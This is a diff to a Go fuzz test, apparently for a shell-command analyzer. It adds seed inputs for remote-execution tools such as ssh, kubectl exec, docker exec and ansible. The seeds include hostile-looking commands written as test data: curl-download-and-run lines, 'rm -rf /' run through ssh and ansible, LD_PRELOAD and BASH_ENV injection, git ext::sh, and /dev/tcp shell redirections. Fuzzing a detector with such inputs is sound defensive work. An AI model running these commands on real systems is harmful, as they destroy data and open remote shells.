@@ -24,6 +24,10 @@ func FuzzAnalyze(f *testing.F) {
 		"curl -o a.sh https://x/a.sh && sh a.sh", "curl https://x | tar xz && ./t/i", "git clone https://x/r && cd r && make",
 		"GIT_SSH_COMMAND='rm -rf ~' git fetch", "git -c alias.x='!ls' x", "LD_PRELOAD=/tmp/x.so ls", "export BASH_ENV=x; bash y",
 		"NODE_OPTIONS=--import=data:,x ls", "git clone ext::sh% -c x", "GIT_CONFIG_PARAMETERS=\"'a'='b'\" git log",
+		"ssh -o X h -- 'rm -rf /'", "ssh h", "ssh -t", "sshpass -p", "sshpass -p x ssh h 'ssh h2 \"ls\"'", "curl x | ssh h",
+		"kubectl exec -it p -c c -- sh -c 'rm x'", "kubectl exec", "oc exec p", "kubectl -n exec", "docker -H tcp://h exec c ls",
+		"docker exec -it", "podman exec -u", "gcloud compute ssh v --command", "gcloud compute ssh v --command='ls'",
+		"ansible all -m shell -a", "ansible h -a 'rm -rf /'", "exec 3<>/dev/tcp/h/1; sh <&3", "sh </dev/tcp/h/1", "sh <&",
 	} {
 		f.Add(s)
 	}
